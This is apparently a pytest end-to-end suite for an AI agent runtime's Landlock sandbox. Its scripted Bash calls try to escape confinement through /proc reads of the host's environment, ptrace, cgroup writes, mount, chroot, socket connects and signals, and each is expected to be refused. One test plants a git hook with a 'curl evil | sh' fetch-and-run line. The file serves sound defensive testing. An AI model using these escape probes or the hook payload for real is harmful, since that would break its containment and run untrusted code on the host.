"""The sandbox, end to end: escape attempts as real Bash calls of a scripted model against
the real daemon and host (root here), each expecting its refusal; real work inside
``workspace-write``; the kernel features masked to show each degradation is reported.

A probe prints ``ESCAPED`` when its attempt worked and ``refused`` (with the error) when it
did not: every probe must say ``refused``, except the pathname UNIX socket, which Landlock
only confines from ABI 9 (pinned as the documented degradation).
"""

from __future__ import annotations

import contextlib
import json
import os
import pathlib
import shutil
import socket
import sys
from collections.abc import Iterator
from typing import Any

import pytest
import trio

from protocol.errors import ErrorCode, RemoteError
from protocol.messages.client import ScriptedProviderConfig, SessionNewParams
from protocol.messages.common import McpServerConfig
from protocol.messages.host import PermissionRequestParams, PermissionRequestResult
from runtime.shared import cgroups
from tests.conftest import Marked
from tests.e2e.agent_harness import Agent, agent_daemon, call, text

PY = sys.executable
pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux only")


def _landlock_abi() -> int:
    from host.sandbox.landlock import kernel_abi
    return kernel_abi()[0]


needs_landlock = pytest.mark.skipif(_landlock_abi() < 6, reason="needs Landlock ABI 6")
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root")


def _py(code: str) -> str:
    """A probe in Python: ``ESCAPED`` if ``code`` ran, else ``refused: <error>``."""
    wrapped = f"try:\n    {code}\n    print('ESCAPED')\nexcept OSError as e:\n" \
              f"    print('refused:', e)"
    return f"{PY} -c {_quote(wrapped)}"


def _sh(command: str) -> str:
    """A probe in the shell: ``ESCAPED`` if ``command`` succeeded, else ``refused``."""
    return f"if {command}; then echo ESCAPED; else echo refused; fi 2>&1"


def _quote(s: str) -> str:
    return "'" + s.replace("'", "'\\''") + "'"


def _config(tmp_path: pathlib.Path, body: str) -> tuple[str, ...]:
    path = tmp_path / "quiesce.toml"
    path.write_text(body)
    return ("--config", str(path))


async def _run_calls(agent: Agent, workspace: pathlib.Path, commands: dict[str, str]
                     ) -> dict[str, Any]:
    script = [[call(name, "Bash", command=command) for name, command in commands.items()],
              [text("done")]]
    await agent.new_session(workspace, script)
    with trio.fail_after(120):
        await agent.prompt("go")
    return agent.results("t1")


def _output(result: Any) -> str:
    return "".join(getattr(part, "text", "") for part in result.content)


@contextlib.contextmanager
def _listeners() -> Iterator[dict[str, Any]]:
    """A TCP listener on loopback, an abstract UNIX socket and a pathname one, all in the
    test (outside any sandbox)."""
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    abstract = socket.socket(socket.AF_UNIX)
    name = f"\0quiesce-sandbox-test-{os.getpid()}"
    abstract.bind(name)
    abstract.listen(8)
    path_sock = socket.socket(socket.AF_UNIX)
    sock_dir = pathlib.Path(os.environ.get("TMPDIR", "/tmp"))
    path = str(sock_dir / f"quiesce-sbx-{os.getpid()}.sock")
    with contextlib.suppress(FileNotFoundError):
        os.unlink(path)
    path_sock.bind(path)
    path_sock.listen(8)
    try:
        yield {"port": tcp.getsockname()[1], "abstract": name[1:], "path": path}
    finally:
        for s in (tcp, abstract, path_sock):
            s.close()
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)


@needs_landlock
@as_root
async def test_escape_attempts_from_a_sandboxed_bash_are_refused(
        tmp_path: pathlib.Path, marked: Marked) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    other = tmp_path / "other-session"  # another session's workspace
    other.mkdir()
    secret = other / "secret"
    secret.write_text("other session's file\n")
    (workspace / "mine").write_text("mine\n")
    home_probe = pathlib.Path.home() / ".quiesce-sandbox-probe"
    etc_probe = pathlib.Path("/etc/quiesce-sandbox-probe")
    cgroup_root = "/sys/fs/cgroup/unified" if os.path.isdir(
        "/sys/fs/cgroup/unified") else "/sys/fs/cgroup"
    args = _config(tmp_path, '[sandbox]\nstrict_tmp = true\n')
    # Landlock's TCP rules, not the private network namespace (its own test, below).
    with _listeners() as listen:
        async with agent_daemon(marked, extra_args=args,
                                env_extra={"QUIESCE_SANDBOX_NETNS": "off"}) as agent:
            assert agent.daemon.info is not None
            host = int(agent.daemon.info.capabilities["host"]["pid"])
            runtime = agent.daemon.process.pid
            victim = workspace / "victim.pid"
            own_cgroup = os.path.join(cgroups.own_cgroup_dir() or cgroup_root, "cgroup.procs")
            probes = {
                # First: another call's tree, alive while the last probe tries to signal it.
                "victim": f"sleep 30 & echo $! > {victim}; sleep 5; kill %1",
                "dotfile": _sh(f"echo x >> {home_probe}"),
                "etc": _sh(f"touch {etc_probe}"),
                "other-workspace": _sh(f"echo x >> {secret}"),
                "rename-out": _sh(f"mv mine {other}/mine"),
                "symlink-out": _sh(f"ln -s {secret} link && echo x >> link"),
                "hardlink-in": _sh(f"ln {secret} hard && echo x >> hard"),
                "mknod": _sh("mknod null2 c 1 3"),
                "proc-root": _sh(f"ls /proc/{host}/root/ >/dev/null"),
                "proc-cwd": _sh(f"ls /proc/{host}/cwd/ >/dev/null"),
                "proc-environ": _sh(f"cat /proc/{host}/environ >/dev/null"),
                "cgroup-root": _sh(f"echo $$ > {cgroup_root}/cgroup.procs"),
                "cgroup-own": _sh(f"echo $$ > {own_cgroup}"),
                "kill-host": _sh(f"kill -CONT {host}"),
                "kill-runtime": _sh(f"kill -CONT {runtime}"),
                "ptrace-host": _sh(f"strace -qq -p {host} -e trace=none -o /dev/null "
                                   "& sleep 0.5; kill %1 2>/dev/null; wait %1"),
                "ptrace-runtime": _py(
                    "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
                    f"r = libc.ptrace(16, {runtime}, 0, 0); "
                    "import os; e = ctypes.get_errno(); "
                    "(_ for _ in ()).throw(OSError(e, os.strerror(e))) if r else None"),
                "tcp-connect": _py("import socket; socket.create_connection("
                                   f"('127.0.0.1', {listen['port']}), timeout=3)"),
                "tcp-bind": _py("import socket; s = socket.socket(); "
                                "s.bind(('127.0.0.1', 0)); s.listen()"),
                "abstract-socket": _py("import socket; s = socket.socket(socket.AF_UNIX); "
                                       f"s.connect('\\0{listen['abstract']}')"),
                "pathname-socket": _py("import socket; s = socket.socket(socket.AF_UNIX); "
                                       f"s.connect({listen['path']!r})"),
                "mount": _sh("mkdir -p m && mount -t tmpfs none m"),
                "unshare": _sh("unshare -m true"),
                "chroot": _sh("chroot / true"),
                "module": _py("import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
                              "r = libc.syscall(176, b'quiesce_no_such_module', 0); "
                              "e = ctypes.get_errno(); "
                              "(_ for _ in ()).throw(OSError(e, os.strerror(e))) "
                              # EPERM: refused (ENOSYS: a kernel without modules; ENOENT:
                              # it could have unloaded one)
                              "if e in (1, 38) else None"),
                "capabilities": "grep -E '^Cap(Prm|Eff|Bnd|Amb)' /proc/self/status",
                "hostname": _py("import socket; socket.sethostname(socket.gethostname())"),
                "fds": f"{PY} -c " + _quote(
                    "import os\nfor fd in range(3, 4096):\n    try: os.fstat(fd)\n"
                    "    except OSError: continue\n    print('inherited', fd)\n"
                    "print('fds checked')"),
                "kill-other-call": (
                    f"for i in $(seq 200); do [ -s {victim} ] && break; sleep 0.02; done; "
                    + _sh(f"kill -CONT $(cat {victim})")),
            }
            try:
                results = await _run_calls(agent, workspace, probes)
            finally:  # what an escape would have left (none is expected)
                for probe in (home_probe, etc_probe):
                    with contextlib.suppress(FileNotFoundError):
                        probe.unlink()
                if os.path.ismount(workspace / "m"):
                    await trio.run_process(["umount", str(workspace / "m")], check=False)
    out = {name: _output(result) for name, result in results.items()}
    pinned = {"pathname-socket"}  # reachable below Landlock ABI 9 (docs/sandbox.md)
    for name in probes:
        if name in ("fds", "victim", "capabilities", *pinned):
            continue
        assert "refused" in out[name] and "ESCAPED" not in out[name], (name, out[name])
    if _landlock_abi() < 9:
        assert "ESCAPED" in out["pathname-socket"], out["pathname-socket"]
    assert secret.read_text() == "other session's file\n"
    assert (workspace / "mine").exists() and not (workspace / "null2").exists()
    caps = out["capabilities"].split()
    assert len(caps) == 8 and set(caps[1::2]) == {"0000000000000000"}, out["capabilities"]
    assert "fds checked" in out["fds"] and "inherited" not in out["fds"], out["fds"]


@needs_landlock
async def test_real_work_succeeds_inside_workspace_write(
        tmp_path: pathlib.Path, marked: Marked) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    wheel = _tiny_wheel(tmp_path / "wheels")
    args = _config(tmp_path, '[sandbox]\nstrict_tmp = true\n')
    git = ("git init -q . && git -c user.email=a@b -c user.name=a add -A && "
           "git -c user.email=a@b -c user.name=a commit -qm first && "
           "git log --oneline | wc -l && echo tmp=$TMPDIR")
    venv = (f"{PY} -m venv v && v/bin/pip install -q --no-index {wheel} && "
            "v/bin/python -c 'import quiesce_tiny; print(quiesce_tiny.VALUE)'")
    calls = {"git": git, "venv": venv}
    if shutil.which("npm") and shutil.which("node"):  # npm's cache in $TMPDIR, offline
        calls["npm"] = (
            "mkdir pkg && cd pkg && printf '{\"name\":\"quiesce-tiny\",\"version\":"
            "\"1.0.0\",\"main\":\"index.js\"}' > package.json && "
            "echo 'module.exports = 42' > index.js && npm pack --silent && cd .. && "
            "npm install --offline --no-audit --no-fund --silent "
            "./pkg/quiesce-tiny-1.0.0.tgz && node -e 'console.log(require(\"quiesce-tiny\"))' "
            "&& ls $npm_config_cache >/dev/null && echo npm-ok")
    async with agent_daemon(marked, extra_args=args) as agent:
        (workspace / "a.txt").write_text("a\n")
        results = await _run_calls(agent, workspace, calls)
    git_out, venv_out = _output(results["git"]), _output(results["venv"])
    assert results["git"].code is None and git_out.splitlines()[0].strip() == "1", git_out
    tmp_line = next(line for line in git_out.splitlines() if line.startswith("tmp="))
    assert "quiesce-sandbox-" in tmp_line, git_out  # the session's own temporary directory
    assert results["venv"].code is None and "tiny-42" in venv_out, venv_out
    if "npm" in calls:
        npm_out = _output(results["npm"])
        assert results["npm"].code is None and "42\nnpm-ok" in npm_out, npm_out


def _tiny_wheel(folder: pathlib.Path) -> pathlib.Path:
    """A pure-Python wheel built by hand (no network, no build backend)."""
    import base64
    import hashlib
    import zipfile
    folder.mkdir()
    path = folder / "quiesce_tiny-1.0-py3-none-any.whl"
    files = {
        "quiesce_tiny/__init__.py": "VALUE = 'tiny-42'\n",
        "quiesce_tiny-1.0.dist-info/METADATA":
            "Metadata-Version: 2.1\nName: quiesce-tiny\nVersion: 1.0\n",
        "quiesce_tiny-1.0.dist-info/WHEEL":
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    with zipfile.ZipFile(path, "w") as whl:
        for name, body in files.items():
            data = body.encode()
            whl.writestr(name, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
            record.append(f"{name},sha256={digest.decode()},{len(data)}")
        record.append("quiesce_tiny-1.0.dist-info/RECORD,,")
        whl.writestr("quiesce_tiny-1.0.dist-info/RECORD", "\n".join(record) + "\n")
    return path


async def _ops_stats(marked: Marked) -> dict[str, Any]:
    command = [PY, "-m", "runtime", "ops", "stats", "--json", "--timeout", "15"]
    with trio.fail_after(30):
        done = await trio.run_process(command, env=marked.env(), capture_stdout=True,
                                      capture_stderr=True, check=False)
    stats: dict[str, Any] = json.loads(done.stdout.decode().strip().splitlines()[-1])
    return stats


async def _allow(params: PermissionRequestParams) -> PermissionRequestResult:
    return PermissionRequestResult("allow-once")


@pytest.mark.parametrize("abi", [0, 3, 5])
async def test_a_masked_kernel_feature_is_reported_and_not_claimed(
        tmp_path: pathlib.Path, marked: Marked, abi: int) -> None:
    """``QUIESCE_LANDLOCK_ABI`` masks what this kernel offers: what the lower ABI cannot
    enforce really is not (the probe gets through) and is reported as degraded in
    ``quiesce ops stats``; with no Landlock at all, Bash asks permission even in ``auto``."""
    if _landlock_abi() < 6:
        pytest.skip("needs Landlock ABI 6 to mask")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    args = _config(tmp_path, '[sandbox]\nstrict_tmp = true\n')
    with _listeners() as listen:
        async with agent_daemon(marked, answer=_allow, extra_args=args,
                                env_extra={"QUIESCE_LANDLOCK_ABI": str(abi),
                                           "QUIESCE_SANDBOX_NETNS": "off"}) as agent:
            probes = {
                "tcp": _py("import socket; socket.create_connection("
                           f"('127.0.0.1', {listen['port']}), timeout=3)"),
                "abstract": _py("import socket; s = socket.socket(socket.AF_UNIX); "
                                f"s.connect('\\0{listen['abstract']}')"),
                "write": _sh(f"touch {tmp_path}/outside"),
            }
            results = await _run_calls(agent, workspace, probes)
            stats = (await _ops_stats(marked))["sandbox"]
            asked = [p.tool for p in agent.permission_requests]
    tcp, abstract, write = (_output(results[k]) for k in ("tcp", "abstract", "write"))
    assert ("ESCAPED" in tcp) == (abi < 4), tcp
    assert ("ESCAPED" in abstract) == (abi < 6), abstract
    assert ("ESCAPED" in write) == (abi == 0), write
    degraded = " ".join(stats.get("degraded", []))
    if abi == 0:
        assert stats["mechanism"] == "none" and "QUIESCE_LANDLOCK_ABI" in stats["unavailable"]
        assert asked == ["Bash"] * len(probes), asked  # asked in mode auto
    else:
        assert stats["mechanism"] == "landlock" and stats["abi"] == abi, stats
        assert ("TCP not confined" in degraded) == (abi < 4), stats
        assert "signals and abstract UNIX sockets not confined" in degraded, stats
        assert asked == [], asked


@needs_landlock
async def test_a_session_narrows_the_mode_and_cannot_widen_it(
        tmp_path: pathlib.Path, marked: Marked) -> None:
    """The daemon's mode is ``off``; a session asking ``read-only`` gets it (a write in its
    workspace is refused), another with no ask stays unconfined. A daemon in
    ``workspace-write`` refuses a session asking ``off``."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    write = [[call("w", "Bash", command=_sh("echo x > written"))], [text("done")]]
    off = _config(tmp_path, '[sandbox]\nmode = "off"\n')
    async with agent_daemon(marked, extra_args=off) as agent:
        narrowed = await agent.daemon.request("session.new", SessionNewParams(
            str(workspace), "auto", ScriptedProviderConfig(script=write),
            sandbox="read-only"))
        agent.session_id = narrowed.session_id
        with trio.fail_after(60):
            await agent.prompt("go")
        assert "refused" in _output(agent.results("t1")["w"])
        assert not (workspace / "written").exists()
        plain = await _run_calls(agent, workspace, {"w": _sh("echo x > written")})
        assert "ESCAPED" in _output(plain["w"])
    default = tmp_path / "default"
    default.mkdir()
    async with agent_daemon(marked) as agent:
        with pytest.raises(RemoteError) as refused:
            await agent.daemon.request("session.new", SessionNewParams(
                str(default), "auto", ScriptedProviderConfig(script=write), sandbox="off"))
        assert refused.value.code == ErrorCode.INVALID_PARAMS
        assert "wider" in refused.value.message


@needs_landlock
async def test_a_refusal_and_a_changed_git_hook_are_said(
        tmp_path: pathlib.Path, marked: Marked) -> None:
    """A refused write carries ``details.sandbox`` and a line saying so; a call that edits
    a git hook (allowed: it is in the workspace) says which control file it changed."""
    workspace = tmp_path / "ws"
    (workspace / ".git" / "hooks").mkdir(parents=True)
    args = _config(tmp_path, '[sandbox]\nstrict_tmp = true\n')
    async with agent_daemon(marked, extra_args=args) as agent:
        results = await _run_calls(agent, workspace, {
            "refused": f"echo x > {tmp_path}/outside.txt",
            "hook": "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit",
            "plain": "echo fine > notes.txt",
        })
    refused, hook, plain = results["refused"], results["hook"], results["plain"]
    assert refused.details["sandbox"]["likelyRefusal"] is True, refused.details
    assert "may have been refused by the sandbox" in _output(refused)
    assert 'sandbox: "off"' in _output(refused)
    assert hook.details["controlFiles"] == [".git/hooks/pre-commit"], hook.details
    assert "files that control later runs were changed: .git/hooks/pre-commit" in _output(hook)
    assert "controlFiles" not in plain.details and "sandbox" not in plain.details


@needs_landlock
@as_root
async def test_a_plugin_server_runs_confined(tmp_path: pathlib.Path, marked: Marked) -> None:
    """A plugin (MCP) server runs in the session's mode with the network on: its write to
    /etc is refused, its write in the workspace is not."""
    from tests.plugins.support import SERVER, new_plugin_session, wait_file
    workspace = tmp_path / "ws"
    workspace.mkdir()
    probe = pathlib.Path("/etc/quiesce-plugin-probe")
    start = (f"echo x > {probe} 2>/dev/null; echo etc=$? > {workspace}/probe.txt; "
             f"exec {PY} {SERVER}")
    server = McpServerConfig("probe", "/bin/sh", ("-c", start))
    try:
        async with agent_daemon(marked) as agent:
            await new_plugin_session(agent, workspace, [[text("hi")]], servers=(server,))
            written = await wait_file(workspace / "probe.txt")
    finally:
        with contextlib.suppress(FileNotFoundError):
            probe.unlink()
    assert written.strip() != "etc=0", written


@pytest.mark.parametrize(("body", "named"), [
    ('[sandbox]\nmode = "wide"\n', "sandbox.mode"),
    ("[sandbox]\nbogus = 1\n", "sandbox.bogus"),
])
async def test_a_bad_sandbox_setting_is_refused_by_name_at_start(
        tmp_path: pathlib.Path, marked: Marked, body: str, named: str) -> None:
    config = tmp_path / "c.toml"
    config.write_text(body)
    with trio.fail_after(30):
        done = await trio.run_process([PY, "-m", "runtime", "serve", "--config", str(config)],
                                      env=marked.env(), stdin=b"", capture_stdout=True,
                                      capture_stderr=True, check=False)
    assert done.returncode == 2, done.stderr.decode()[-2000:]
    assert named in done.stderr.decode()


async def test_required_without_landlock_refuses_sessions(
        tmp_path: pathlib.Path, marked: Marked) -> None:
    """``required = true`` on a kernel without Landlock (masked): ``session.new`` fails with
    ``SANDBOX_UNAVAILABLE``, naming why."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    args = _config(tmp_path, "[sandbox]\nrequired = true\n")
    async with agent_daemon(marked, extra_args=args,
                            env_extra={"QUIESCE_LANDLOCK_ABI": "0"}) as agent:
        with pytest.raises(RemoteError) as refused:
            await agent.new_session(workspace, [[text("hi")]])
    assert refused.value.code == ErrorCode.SANDBOX_UNAVAILABLE, refused.value
    assert "QUIESCE_LANDLOCK_ABI" in refused.value.message


LOCAL_SERVER_TEST = """\
import socket
import threading


def test_a_local_server_answers():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()

    def answer():
        conn, _ = server.accept()
        conn.sendall(conn.recv(100).upper())
        conn.close()

    threading.Thread(target=answer).start()
    client = socket.create_connection(server.getsockname(), timeout=5)
    client.sendall(b"ping")
    assert client.recv(100) == b"PING"
"""


@needs_landlock
@as_root
async def test_network_off_is_a_private_namespace_where_a_local_server_works(
        tmp_path: pathlib.Path, marked: Marked) -> None:
    """As root, network ``off`` is a private network namespace per session (loopback
    only): TCP and UDP to the host's loopback get nowhere, while a pytest run whose test
    starts a local server passes."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "test_local_server.py").write_text(LOCAL_SERVER_TEST)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.5)
    with _listeners() as listen, contextlib.closing(udp):
        async with agent_daemon(marked) as agent:
            results = await _run_calls(agent, workspace, {
                "tcp": _py("import socket; socket.create_connection("
                           f"('127.0.0.1', {listen['port']}), timeout=3)"),
                "udp": _py("import socket; s = socket.socket(socket.AF_INET, "
                           f"socket.SOCK_DGRAM); s.sendto(b'leak', ('127.0.0.1', "
                           f"{udp.getsockname()[1]}))"),
                "pytest": f"{PY} -m pytest -q -p no:cacheprovider test_local_server.py",
            })
            stats = (await _ops_stats(marked))["sandbox"]
        with pytest.raises(TimeoutError):
            udp.recvfrom(100)  # nothing arrived from the sandbox
    assert "refused" in _output(results["tcp"]), _output(results["tcp"])
    assert results["pytest"].code is None and "1 passed" in _output(results["pytest"]), \
        _output(results["pytest"])
    assert any("private network namespace" in e for e in stats["enforced"]), stats
    assert not any("UDP" in d for d in stats["degraded"]), stats


@needs_landlock
async def test_hooks_run_confined_unless_one_opts_out(
        tmp_path: pathlib.Path, marked: Marked) -> None:
    """A hook runs in the session's sandbox: its write outside the workspace is refused;
    a hook with ``sandbox = false`` in its table runs as the daemon's user."""
    from tests.e2e.hookkit import hook_table, hooked, script
    outside = tmp_path / "outside"
    outside.mkdir()
    confined = script(tmp_path, "confined", f'echo x > "{outside}/confined" || true\n')
    free = script(tmp_path, "free", f'echo x > "{outside}/free"\n')
    toml = ("[sandbox]\nstrict_tmp = true\n\n" + hook_table("pre_tool_use", "Bash", confined)
            + hook_table("pre_tool_use", "Bash", free) + "sandbox = false\n")
    async with hooked(marked, tmp_path, toml) as agent:
        await agent.new_session(tmp_path / "ws", [[call("b1", "Bash", command="true")],
                                                  [text("done")]])
        with trio.fail_after(30):
            await agent.prompt("go")
    assert not (outside / "confined").exists()
    assert (outside / "free").read_text() == "x\n"
